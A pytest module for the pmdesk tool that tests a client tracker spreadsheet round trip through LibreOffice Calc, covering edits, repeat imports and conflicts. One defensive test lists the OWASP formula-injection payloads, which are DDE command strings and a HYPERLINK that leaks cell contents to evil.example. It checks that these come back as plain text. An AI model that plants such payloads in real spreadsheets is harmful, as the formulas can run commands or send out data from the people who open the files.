"""The client round trip through LibreOffice Calc: export, the client edits and saves in
Calc, import — the client's edits, the same file twice, and a file returned after the PM
changed other and the same cells. The preview's text is asserted as the PM reads it.

The client is Calc itself, driven through `uno` (tests/libreoffice_client.py), so the file
is what Calc really writes (its empty last row after a deletion, its comments part, its
date cells). Skipped with a reason where LibreOffice or python3-uno is missing; CI
installs `libreoffice-calc-nogui python3-uno` (and `poppler-utils` for the page checks).
"""

from __future__ import annotations

import datetime as dt
import json
import os
import secrets
import shutil
import signal
import subprocess
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from pmdesk.exports import ExportOptions
from pmdesk.exports.tracker_xlsx import export_tracker
from pmdesk.imports import tracker_text
from pmdesk.imports import tracker_xlsx as importer
from pmdesk.models import ActionItem, ActionSource, Language
from pmdesk.services import progress
from tests.demo_copy import demo_project

TODAY = dt.date(2026, 11, 27)
CLIENT = Path(__file__).parent.parent / "libreoffice_client.py"
SYSTEM_PYTHON = Path("/usr/bin/python3")


@pytest.fixture
def backend() -> str:
    return "sqlite"  # the merge runs on both backends in test_tracker.py; Calc is slow


def _has_uno() -> bool:
    if not SYSTEM_PYTHON.exists():
        return False
    found = subprocess.run([SYSTEM_PYTHON, "-c", "import uno"], capture_output=True, check=False)
    return found.returncode == 0


@pytest.fixture(scope="session")
def calc(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """One LibreOffice for the session's client edits (a start costs seconds); its pipe."""
    if shutil.which("soffice") is None:
        pytest.skip(
            "LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui"
        )
    if not _has_uno():
        pytest.skip("LibreOffice's Python bridge is missing: apt-get install python3-uno")
    profile = tmp_path_factory.mktemp("calc") / "profile"
    pipe = f"pmdesk-test-{os.getpid()}-{secrets.token_hex(3)}"
    office = subprocess.Popen(
        [
            "soffice",
            f"-env:UserInstallation={profile.resolve().as_uri()}",
            *("--headless", "--invisible", "--norestore", f"--accept=pipe,name={pipe};urp;"),
        ],
        start_new_session=True,  # its own process group: the wrapper and soffice.bin
    )  # fmt: skip
    try:
        yield pipe
    finally:
        os.killpg(office.pid, signal.SIGTERM)
        try:
            office.wait(timeout=30)
        except subprocess.TimeoutExpired:
            os.killpg(office.pid, signal.SIGKILL)
            office.wait()


class Client:
    """Edits a tracker in Calc and saves it, as the client does."""

    def __init__(self, folder: Path, pipe: str) -> None:
        self.folder = folder
        self.pipe = pipe
        self.count = 0

    def edit(self, source: Path, edits: list[dict[str, Any]], name: str) -> Path:
        self.count += 1
        target = self.folder / name
        steps = self.folder / f"edits-{self.count}.json"
        steps.write_text(json.dumps(edits), encoding="utf-8")
        profile = self.folder / f"profile-{self.count}"
        subprocess.run(
            [SYSTEM_PYTHON, CLIENT, source, target, steps, profile],
            check=True, capture_output=True, timeout=180,
            env=dict(os.environ, PMDESK_TEST_OFFICE_PIPE=self.pipe),
        )  # fmt: skip
        return target


@pytest.fixture
def client(calc: str, tmp_path: Path) -> Client:
    folder = tmp_path / "client"
    folder.mkdir()
    return Client(folder, calc)


@pytest.fixture
def demo(database: Path) -> int:
    return demo_project(Language.EN, today=TODAY)


def step(title: str) -> ActionItem:
    return ActionItem.get(ActionItem.title.startswith(title))


def row_of(tracker: Path, action: ActionItem) -> int:
    sheet = openpyxl.load_workbook(tracker)["Tracker"]
    for number, values in enumerate(sheet.iter_rows(values_only=True), start=1):
        if values and values[0] == progress.tracker_id(action.number):
            return number
    raise AssertionError(action.title)


def lines(preview: importer.TrackerPreview) -> list[str]:
    return tracker_text.preview_lines(preview)


def test_client_edits_saved_by_calc_import_as_the_preview_says(
    demo: int, client: Client, tmp_path: Path
) -> None:
    tracker = export_tracker(demo, tmp_path / "tracker.xlsx", ExportOptions())
    walk, key_users = step("Walk the team"), step("Nominate one key user")
    reopened, sandbox = step("Share last quarter's AP"), step("Approve SAP sandbox")
    workshop, dropped = step("Run the savings-baseline"), step("Draft the future-state")
    last = openpyxl.load_workbook(tracker)["Tracker"].max_row
    new = last + 1
    edits = [
        {"type": ["Tracker", f"F{row_of(tracker, walk)}", "Done"]},
        {"type": ["Tracker", f"G{row_of(tracker, walk)}", "2026-11-26"]},
        {"type": ["Tracker", f"I{row_of(tracker, key_users)}", "Derby will name theirs"]},
        # Back from Done, its completion date left filled in.
        {"type": ["Tracker", f"F{row_of(tracker, reopened)}", "In progress"]},
        {"comment": ["Tracker", f"F{row_of(tracker, sandbox)}", "IT says next week"]},
        {"type": ["Tracker", f"C{row_of(tracker, workshop)}", "Sarah Mitchell"]},
        {"type": ["Tracker", f"B{new}", "Book the training room"]},
        {"type": ["Tracker", f"C{new}", "Sarah Mitchell"]},
        {"type": ["Tracker", f"D{new}", "2026-11-30"]},
        {"type": ["Tracker", f"E{new}", "2026-12-04"]},
        {"type": ["Tracker", f"F{new}", "Open"]},
        {"type": ["Tracker", f"H{new}", "High"]},
        {"type": ["Tracker", f"I{new}", "We will book it"]},
        {"delete_row": ["Tracker", row_of(tracker, dropped)]},
    ]
    edited = client.edit(tracker, edits, "returned.xlsx")

    preview = importer.read_tracker(demo, edited, TODAY)
    text = lines(preview)
    w, k, r = (progress.tracker_id(a.number) for a in (walk, key_users, reopened))
    assert text[0] == "The client's changes (imported):"
    assert set(text[1:6]) == {
        f"  {w} {walk.title}: status In progress → Done",
        f"  {w} {walk.title}: completed on (empty) → 2026-11-26",
        f"  {k} {key_users.title}: client comment (empty) → “Derby will name theirs”",
        f"  {r} {reopened.title}: status Done → In progress",
        f"  {r} {reopened.title}: completed on {reopened.completed_on} → (empty)",
    }
    assert text[6] == "New steps the client added (created):"
    assert text[7] == (
        f"  + new step (row {new - 1}): Book the training room (status Open; owner Sarah "
        "Mitchell; start 2026-11-30; due 2026-12-04; priority High; comment “We will book it”)"
    )
    assert (
        "Rows deleted from the file (the steps stay in pmdesk; cancel them there if agreed):"
        in text
    )
    assert f"  − {progress.tracker_id(dropped.number)} {dropped.title}" in text
    s = progress.tracker_id(sandbox.number)
    note = [line for line in text if "IT says next week" in line]
    assert note and note[0].startswith(f"  Row {row_of(tracker, sandbox)} ({s}), Status: ")
    assert (
        f"  Row {row_of(tracker, workshop)} ({progress.tracker_id(workshop.number)}): Owner "
        "Alex Morgan → Sarah Mitchell in the file; not imported (change it in pmdesk if agreed)."
    ) in text
    assert (
        f"  Row {row_of(tracker, reopened)} ({r}): status In progress with completion date "
        f"{reopened.completed_on}: the date is cleared (only a done step has one)."
    ) in text
    assert not preview.conflicts and not preview.kept

    before = {a.id for a in progress.list_actions(demo)}
    importer.apply_tracker(preview)
    after = {a.id: a for a in progress.list_actions(demo)}
    assert (after[walk.id].status, after[walk.id].completed_on) == ("done", dt.date(2026, 11, 26))
    assert (after[reopened.id].status, after[reopened.id].completed_on) == ("in_progress", None)
    assert after[key_users.id].client_comment == "Derby will name theirs"
    assert after[workshop.id].owner.name == "Alex Morgan", "owner changes are not imported"
    assert dropped.id in after, "a deleted row deletes nothing"
    [added] = [after[i] for i in set(after) - before]
    assert (added.title, added.owner.name, added.priority) == (
        "Book the training room",
        "Sarah Mitchell",
        "high",
    )
    assert (added.start_date, added.due_date) == (dt.date(2026, 11, 30), dt.date(2026, 12, 4))
    assert added.source == ActionSource.TRACKER and added.client_comment == "We will book it"


def test_the_same_file_twice_changes_nothing_and_says_so(
    demo: int, client: Client, tmp_path: Path
) -> None:
    tracker = export_tracker(demo, tmp_path / "tracker.xlsx", ExportOptions())
    walk = step("Walk the team")
    new = openpyxl.load_workbook(tracker)["Tracker"].max_row + 1
    edited = client.edit(
        tracker,
        [
            {"type": ["Tracker", f"F{row_of(tracker, walk)}", "Done"]},
            {"type": ["Tracker", f"B{new}", "Book the training room"]},
            {"type": ["Tracker", f"F{new}", "Open"]},
        ],
        "returned.xlsx",
    )
    importer.apply_tracker(importer.read_tracker(demo, edited, TODAY))
    steps = len(progress.list_actions(demo))
    added = ActionItem.get(ActionItem.title == "Book the training room")
    added_id = progress.tracker_id(added.number)

    again = importer.read_tracker(demo, edited, TODAY)
    assert again.is_empty and again.imported_before
    assert lines(again) == [
        "Notices:",
        f"  Row {new}: “Book the training room” was imported before as {added_id}; not "
        "added again.",
        "Nothing to import: this file's changes are already in pmdesk (it was imported before).",
    ]
    importer.apply_tracker(again)
    assert len(progress.list_actions(demo)) == steps, "no duplicate rows"

    # The client goes on editing the same file and sends it again: the row they added
    # is recognised, and their new change to it is imported as a change.
    later = client.edit(edited, [{"type": ["Tracker", f"F{new}", "In progress"]}], "later.xlsx")
    preview = importer.read_tracker(demo, later, TODAY)
    assert not preview.new_steps
    assert [(c.number, c.field, c.old, c.new) for c in preview.changes] == [
        (added.number, "status", "open", "in_progress")
    ]
    importer.apply_tracker(preview)
    assert len(progress.list_actions(demo)) == steps
    assert ActionItem.get_by_id(added.id).status == "in_progress"


def test_a_file_returned_after_the_pm_changed_other_and_the_same_cells(
    demo: int, client: Client, tmp_path: Path
) -> None:
    tracker = export_tracker(demo, tmp_path / "tracker.xlsx", ExportOptions())
    walk, key_users = step("Walk the team"), step("Nominate one key user")
    finished, moved = step("Finalise the kickoff presentation"), step("Run the savings-baseline")
    # The client's file: walk done, comments on key users and on the presentation.
    edited = client.edit(
        tracker,
        [
            {"type": ["Tracker", f"F{row_of(tracker, walk)}", "Done"]},
            {"type": ["Tracker", f"G{row_of(tracker, walk)}", "2026-11-26"]},
            {"type": ["Tracker", f"I{row_of(tracker, key_users)}", "Derby names theirs Monday"]},
            {"type": ["Tracker", f"I{row_of(tracker, finished)}", "Slides look good"]},
        ],
        "returned.xlsx",
    )
    # Meanwhile in pmdesk: the presentation is done with a comment, the workshop moved,
    # and key users got a comment of the team's own.
    progress.update_action(
        finished.id,
        {"status": "done", "completed_on": dt.date(2026, 11, 27), "client_comment": "Sent"},
    )
    progress.update_action(moved.id, {"due_date": dt.date(2026, 12, 9)})
    progress.update_action(key_users.id, {"client_comment": "Chased on the phone"})

    preview = importer.read_tracker(demo, edited, TODAY)
    text = lines(preview)
    w, k, f, m = (progress.tracker_id(a.number) for a in (walk, key_users, finished, moved))
    assert [c for c in text if c.startswith(f"  {w}")] == [
        f"  {w} {walk.title}: status In progress → Done",
        f"  {w} {walk.title}: completed on (empty) → 2026-11-26",
    ]
    assert "Changed in pmdesk since the export (they stay):" in text
    kept = text[text.index("Changed in pmdesk since the export (they stay):") + 1 :]
    assert f"  {f} {finished.title}: status In progress → Done" in kept
    assert f"  {f} {finished.title}: completed on (empty) → 2026-11-27" in kept
    assert f"  {m} {moved.title}: due {moved.due_date} → 2026-12-09" in kept
    assert not any("Done → In progress" in line or "→ (empty)" in line for line in text), (
        "nothing the PM did since the export is proposed for revert"
    )
    conflicts = {(c.number, c.field): c for c in preview.conflicts}
    assert set(conflicts) == {
        (key_users.number, "client_comment"),
        (finished.number, "client_comment"),
    }
    assert (
        f"  {k} {key_users.title}: client comment — sent (empty); pmdesk now “Chased on the "
        "phone”; client “Derby names theirs Monday” → pmdesk's value stays"
    ) in text

    conflicts[(key_users.number, "client_comment")].take_client = True
    importer.apply_tracker(preview)
    assert ActionItem.get_by_id(key_users.id).client_comment == "Derby names theirs Monday"
    kept_step = ActionItem.get_by_id(finished.id)
    assert (kept_step.status, kept_step.client_comment) == ("done", "Sent")
    assert ActionItem.get_by_id(moved.id).due_date == dt.date(2026, 12, 9)
    assert ActionItem.get_by_id(walk.id).status == "done"


OWASP = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the report")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1;=1+1",
    '=DDE("cmd";"/C calc";"!A0")',
)


def test_formulas_typed_in_calc_come_back_as_text_and_leave_as_text(
    demo: int, client: Client, tmp_path: Path
) -> None:
    """The OWASP CSV-injection payloads, typed by the client in Calc (so Calc stores the
    ones it can parse as formulas), are imported as the text typed and exported as text."""
    tracker = export_tracker(demo, tmp_path / "tracker.xlsx", ExportOptions())
    first = openpyxl.load_workbook(tracker)["Tracker"].max_row + 1
    edits = []
    for offset, payload in enumerate(OWASP):
        edits += [
            {"type": ["Tracker", f"B{first + offset}", payload]},
            {"type": ["Tracker", f"F{first + offset}", "Open"]},
            {"text": ["Tracker", f"I{first + offset}", payload]},
        ]
    edited = client.edit(tracker, edits, "returned.xlsx")
    preview = importer.read_tracker(demo, edited, TODAY)
    titles = [s.title for s in preview.new_steps]
    assert len(titles) == len(OWASP)
    for title, payload in zip(titles, OWASP, strict=True):
        # Calc may normalise what it parsed as a formula (spacing, quotes), never evaluate it.
        assert title[0] == payload[0] and title[0] in "=+-@", title
    assert [s.client_comment for s in preview.new_steps] == list(OWASP)
    importer.apply_tracker(preview)

    again = export_tracker(demo, tmp_path / "next.xlsx", ExportOptions())
    sheet = openpyxl.load_workbook(again)["Tracker"]
    cells = [c for row in sheet.iter_rows(min_row=3) for c in row if c.value in set(OWASP)]
    assert len(cells) >= len(OWASP)
    assert all(c.data_type == "s" for c in cells), "text, never a formula"
    with zipfile.ZipFile(again) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


def test_conflict_choices_are_proposed_again_at_the_next_import_of_the_export(
    demo: int, client: Client, tmp_path: Path
) -> None:
    tracker = export_tracker(demo, tmp_path / "tracker.xlsx", ExportOptions())
    walk, key_users = step("Walk the team"), step("Nominate one key user")
    finished = step("Finalise the kickoff presentation")
    returned = client.edit(
        tracker,
        [
            {"type": ["Tracker", f"I{row_of(tracker, key_users)}", "Derby names theirs Monday"]},
            {"type": ["Tracker", f"I{row_of(tracker, finished)}", "Slides look good"]},
        ],
        "returned.xlsx",
    )
    progress.update_action(key_users.id, {"client_comment": "Chased on the phone"})
    progress.update_action(finished.id, {"client_comment": "Sent on Friday"})
    k, f = (progress.tracker_id(a.number) for a in (key_users, finished))
    keep_line = (
        f"  {f} {finished.title}: client comment — sent (empty); pmdesk now “Sent on "
        "Friday”; client “Slides look good” → pmdesk's value stays"
    )

    # First import: both cells asked; the PM takes the client's on one, keeps the other.
    first = importer.read_tracker(demo, returned, TODAY)
    assert all(c.chosen_on is None for c in first.conflicts)
    assert keep_line in lines(first)
    {c.number: c for c in first.conflicts}[key_users.number].take_client = True
    importer.apply_tracker(first)
    assert ActionItem.get_by_id(key_users.id).client_comment == "Derby names theirs Monday"
    assert ActionItem.get_by_id(finished.id).client_comment == "Sent on Friday"

    # The same file again, a day later: the kept cell is not asked afresh.
    again = importer.read_tracker(demo, returned, TODAY + dt.timedelta(days=1))
    [conflict] = again.conflicts
    assert (conflict.number, conflict.take_client, conflict.chosen_on) == (
        finished.number,
        False,
        TODAY,
    )
    text = lines(again)
    assert f"{keep_line} (as you chose on {TODAY})" in text
    assert not any(line.startswith(f"  {k}") for line in text), "taken: in pmdesk already"
    assert text[-1] == (
        "The conflict choice you made at an earlier import of this export is proposed again. "
        "Nothing to import: this file's changes are already in pmdesk (it was imported before)."
    )
    assert again.is_empty and again.imported_before
    chinese = tracker_text.preview_lines(again, Language.ZH_CN)
    assert any(line.endswith(f"（沿用您 {TODAY} 的选择）") for line in chinese)
    assert chinese[-1].startswith("此前导入同一导出文件时您对这处冲突所作的选择，本次照此沿用。")

    # The client's next return of the same export, edited again in Calc: the choice
    # still stands; a new client value on that cell is a new question.
    later = client.edit(
        returned,
        [
            {"type": ["Tracker", f"F{row_of(tracker, walk)}", "Done"]},
            {"type": ["Tracker", f"G{row_of(tracker, walk)}", "2026-11-26"]},
        ],
        "later.xlsx",
    )
    next_return = importer.read_tracker(demo, later, TODAY)
    assert [(c.number, c.chosen_on) for c in next_return.conflicts] == [(finished.number, TODAY)]
    assert {(c.number, c.field) for c in next_return.changes} == {
        (walk.number, "status"),
        (walk.number, "completed_on"),
    }
    applied = importer.apply_tracker(next_return)
    assert ActionItem.get_by_id(finished.id).client_comment == "Sent on Friday"

    rewritten = client.edit(
        later, [{"type": ["Tracker", f"I{row_of(tracker, finished)}", "Slides approved"]}], "3.xlsx"
    )
    [asked] = importer.read_tracker(demo, rewritten, TODAY).conflicts
    assert (asked.theirs, asked.chosen_on) == ("Slides approved", None), "asked afresh"

    # A choice goes with the import that made it: undone, the next import asks again.
    importer.undo_import(applied)
    assert ActionItem.get_by_id(walk.id).status != "done"
    still = importer.read_tracker(demo, returned, TODAY)
    assert [c.chosen_on for c in still.conflicts] == [TODAY], "the first import's choice stays"
